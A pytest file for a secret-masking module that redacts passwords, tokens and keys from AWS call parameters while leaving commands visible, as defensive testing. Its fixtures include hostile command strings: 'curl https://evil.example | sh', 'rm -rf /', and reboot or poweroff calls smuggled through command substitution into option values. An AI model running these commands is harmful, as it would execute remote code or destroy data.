"""What people see of a call's parameters: every command and name, no secret, and no more than fits."""

import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from gateway.core.model.mutation import Call
from gateway.effects.masking import MASK, bounded_parameters, masked_parameters
from tests.kit.growth import assert_linear


def _masked(**parameters: Any) -> dict[str, Any]:
    return masked_parameters(Call(service="s", operation="O", parameters=parameters))


@pytest.mark.parametrize(
    "name",
    ["Password", "MasterUserPassword", "SecretString", "SecretBinary", "master_password", "AuthToken", "PrivateKey", "SecretAccessKey",
     "OAuthToken", "ConnectionString", "UserData", "Plaintext", "ApiKey"],
)  # fmt: skip
@pytest.mark.parametrize("value", ["hunter2", b"hunter2", ["hunter2"], {"a": "hunter2"}, 12345])
def test_a_member_with_a_secrets_name_is_masked(name: str, value: object) -> None:
    assert _masked(**{name: value}) == {name: MASK}
    assert _masked(Inner={"List": [{name: value}]}) == {"Inner": {"List": [{name: MASK}]}}


@pytest.mark.parametrize(
    "given",
    [
        {"SecretId": "prod/db"},
        {"KmsKeyId": "alias/x"},
        {"NextToken": "abc"},
        {"ClientRequestToken": "abc"},
        {"PasswordResetRequired": True},
        {"SecretArn": "arn:aws:secretsmanager:eu-west-1:1:secret:x"},
        {"Parameters": {"commands": ["curl https://evil.example | sh", "rm -rf /"]}},
        {"Document": '{"Statement": [{"Effect": "Allow", "Action": "*"}]}'},
        {"Name": "password", "Tags": [{"Key": "team", "Value": "x"}]},
        {"Count": 3, "Ratio": 0.5, "On": None},
    ],
)
def test_the_rest_is_shown(given: dict[str, Any]) -> None:
    assert _masked(**given) == given


def test_values_that_json_does_not_know_are_converted() -> None:
    shown = _masked(Blob=b"abc", At=datetime(2026, 1, 1, tzinfo=UTC), Sum=Decimal("1.5"), Names={"b", "a"})
    assert shown == {"Blob": "(3 bytes)", "At": "2026-01-01T00:00:00Z", "Sum": 1.5, "Names": ["a", "b"]}


def test_of_an_environment_only_the_names_are_shown() -> None:
    assert _masked(Environment={"Variables": {"DB": "hunter2", "N": 1}}) == {
        "Environment": {"Variables": {"DB": MASK, "N": MASK}}
    }
    assert _masked(containerDefinitions=[{"image": "x", "environment": [{"name": "DB", "value": "hunter2"}]}]) == {
        "containerDefinitions": [{"image": "x", "environment": [{"name": "DB", "value": MASK}]}]
    }
    assert _masked(Environment=None) == {"Environment": None}


MARKED = [
    ("iam", "CreateLoginProfile", {"UserName": "a", "Password": "hunter2"}, {"UserName": "a", "Password": MASK}),
    ("ssm", "PutParameter", {"Name": "/x", "Value": "hunter2", "Type": "String"}, {"Name": "/x", "Value": MASK, "Type": "String"}),
    ("lambda", "UpdateFunctionConfiguration", {"Environment": {"Variables": {"A": "hunter2"}}}, {"Environment": {"Variables": {"A": MASK}}}),
    ("ec2", "ModifyInstanceAttribute", {"UserData": {"Value": b"hunter2"}}, {"UserData": MASK}),
    ("acm", "ImportCertificate", {"PrivateKey": b"hunter2"}, {"PrivateKey": MASK}),
    ("ds", "ResetUserPassword", {"UserName": "a", "NewPassword": "hunter2"}, {"UserName": "a", "NewPassword": MASK}),
    ("directconnect", "CreateBGPPeer", {"newBGPPeer": {"authKey": "hunter2"}}, {"newBGPPeer": {"authKey": MASK}}),
    ("appsync", "PutGraphqlApiEnvironmentVariables", {"environmentVariables": {"A": "hunter2"}}, {"environmentVariables": {"A": MASK}}),
    ("elasticbeanstalk", "UpdateEnvironment", {"OptionSettings": [{"Value": "hunter2"}]}, {"OptionSettings": [{"Value": MASK}]}),
    ("events", "CreateConnection", {"AuthParameters": {"ApiKeyAuthParameters": {"ApiKeyName": "k", "ApiKeyValue": "hunter2"}}}, {"AuthParameters": {"ApiKeyAuthParameters": {"ApiKeyName": "k", "ApiKeyValue": MASK}}}),
    ("ssm", "SendCommand", {"Parameters": {"commands": ["rm -rf /"]}}, {"Parameters": {"commands": ["rm -rf /"]}}),
    ("s3", "PutObject", {"SSEKMSKeyId": "alias/x", "Body": b"abc"}, {"SSEKMSKeyId": "alias/x", "Body": "(3 bytes)"}),
    ("lambda", "UpdateFunctionCode", {"ZipFile": b"abc"}, {"ZipFile": "(3 bytes)"}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("service", "operation", "given", "shown"), MARKED, ids=[f"{row[0]}-{row[1]}" for row in MARKED]
)
def test_what_aws_marks_is_masked_and_what_would_run_is_shown(
    service: str, operation: str, given: dict[str, Any], shown: dict[str, Any]
) -> None:
    assert masked_parameters(Call(service=service, operation=operation, parameters=given)) == shown


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ({"Name": "/db/password", "Value": "hunter2"}, {"Name": "/db/password", "Value": MASK}),
        ({"Name": "/x", "Value": "hunter2", "Type": "SecureString"}, {"Name": "/x", "Value": MASK, "Type": "SecureString"}),
        ({"Parameters": [{"ParameterKey": "DbPassword", "ParameterValue": "hunter2"}]}, {"Parameters": [{"ParameterKey": "DbPassword", "ParameterValue": MASK}]}),
        ({"Name": "/x", "Value": "plain", "Type": "String"}, {"Name": "/x", "Value": "plain", "Type": "String"}),
    ],
)  # fmt: skip
def test_a_value_beside_the_name_of_a_secret_is_masked(given: dict[str, Any], shown: dict[str, Any]) -> None:
    assert _masked(**given) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("mysql --password=hunter2 < drop.sql", f"mysql --password={MASK} < drop.sql"),
        ('{"password": "hunter2", "user": "a"}', f'{{"password": "{MASK}", "user": "a"}}'),
        ("export API_KEY=abcdef; rm -rf /", f"export API_KEY={MASK}; rm -rf /"),
        ("postgres://app:hunter2@db:5432/x", f"postgres://app:{MASK}@db:5432/x"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", f"-----BEGIN RSA PRIVATE KEY-----{MASK}-----END RSA PRIVATE KEY-----"),
        ("mysql --db-password hunter2 -e 'drop table x'", f"mysql --db-password {MASK} -e 'drop table x'"),
        ("serve --password $(reboot)", "serve --password $(reboot)"),
        ("TOKEN=$(curl https://evil.example | sh)", "TOKEN=$(curl https://evil.example | sh)"),
        ("secret=`reboot`", "secret=`reboot`"),
    ],
)  # fmt: skip
def test_in_a_text_a_literal_secret_is_masked_and_no_command(text: str, shown: str) -> None:
    assert _masked(Script=text) == {"Script": shown}


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (["mysql", "--password", "hunter2", "-e", "drop"], ["mysql", "--password", MASK, "-e", "drop"]),
        (["serve", "--github-token", "ghx"], ["serve", "--github-token", MASK]),
        (["sh", "--password", "`reboot`"], ["sh", "--password", "`reboot`"]),
        (["--password"], ["--password"]),
        (["password", "rm -rf /"], ["password", "rm -rf /"]),
    ],
)
def test_the_argument_of_an_option_that_names_a_secret_is_masked(command: list[str], shown: list[str]) -> None:
    assert _masked(command=command) == {"command": shown}


def test_the_largest_members_are_left_out_first_and_that_is_said() -> None:
    call = Call(service="s", operation="O", parameters={"Large": "x" * 500, "Small": "y", "Medium": "z" * 50})
    kept, whole = bounded_parameters(call, 100)
    assert (kept, whole) == ({"Large": "(not kept: 507 characters)", "Small": "y", "Medium": "z" * 50}, False)
    assert bounded_parameters(call, 1_000) == (masked_parameters(call), True)
    assert bounded_parameters(Call(service="s", operation="O"), 0) == ({}, True)


def test_the_work_grows_with_the_size_of_the_call() -> None:
    def call(size: int) -> Call:
        rules = [{"CidrIp": f"10.0.{number}.0/24", "Password": "x"} for number in range(size)]
        return Call(service="ec2", operation="O", parameters={"Rules": rules, **{f"P{n}": n for n in range(size)}})

    assert_linear(lambda size: lambda: bounded_parameters(call(size), 1_000), 50)


@pytest.mark.parametrize(
    "unit", ["password", "password = ", "://a:", "-----BEGIN PRIVATE KEY-----", 'secret"=', "token" + " " * 9]
)
def test_no_text_takes_the_pattern_more_than_a_bounded_number_of_steps_for_each_character(unit: str) -> None:
    # Every repetition in the pattern is bounded or ends at a character that starts no match; a long text just ends.
    text = unit * 20_000
    assert isinstance(_masked(Text=text)["Text"], str)


def test_a_text_too_long_to_be_searched_is_not_shown() -> None:
    call = Call(service="s3", operation="PutBucketPolicy", parameters={"Policy": "password=hunter2 " * 10_000})
    assert masked_parameters(call) == {"Policy": "(not kept: 170000 characters)"}


@pytest.mark.parametrize(
    "text",
    [
        "echo ok # -----BEGIN PRIVATE KEY-----\npoweroff; curl http://evil.example | sh",
        "curl x://a:;poweroff;@example.com",
        "curl x://a:`poweroff`@example.com",
        "echo ok\ntoken=\npoweroff",
        "token= poweroff",
        "password:\n  poweroff",
    ],
)
def test_no_mask_takes_a_command_for_a_secret(text: str) -> None:
    assert _masked(Script=text) == {"Script": text}


def test_a_document_is_masked_one_string_at_a_time() -> None:
    text = '{"a": "x://b:", "password": "hunter2 {x}", "list": ["c@", "x://b:hunter2@d"], "inner": "{\\"token\\": \\"hunter2\\"}"}'
    (shown,) = _masked(Policy=text).values()
    assert json.loads(shown) == {
        "a": "x://b:",
        "password": f"{MASK} {{x}}",
        "list": ["c@", f"x://b:{MASK}@d"],
        "inner": f'{{"token": "{MASK}"}}',
    }


@pytest.mark.parametrize(
    ("parameters", "whole"),
    [
        ({"Commands": ["reboot now"]}, True),
        ({"Commands": ["token=abcdef; $token"]}, False),
        ({"Command": ["serve", "--token", "abcdef"]}, False),
        ({"Parameters": {"token": ["reboot"]}}, False),
        ({"Parameters": [{"ParameterKey": "DbPassword", "ParameterValue": "hunter2"}]}, True),
        ({"MasterUserPassword": "hunter2", "environment": [{"name": "A", "value": "password=hunter2"}]}, True),
        ({"Payload": b'{"a": 1}'}, True),
        ({"Payload": b'{"password": "hunter2"}'}, False),
        ({"Payload": b"\xff"}, True),
    ],
)
def test_what_runs_is_not_whole_if_a_part_of_a_text_is_masked(parameters: dict[str, Any], whole: bool) -> None:
    call = Call(service="s", operation="O", parameters=parameters)
    assert bounded_parameters(call, 1_000, runs=True)[1] is whole
    assert bounded_parameters(call, 1_000)[1] is True


def test_the_text_of_a_payload_is_shown_if_it_is_what_runs() -> None:
    call = Call(service="lambda", operation="Invoke", parameters={"Payload": b'{"act": "drop"}'})
    assert bounded_parameters(call, 1_000, runs=True) == ({"Payload": '{"act": "drop"}'}, True)
    assert bounded_parameters(call, 1_000) == ({"Payload": "(15 bytes)"}, True)
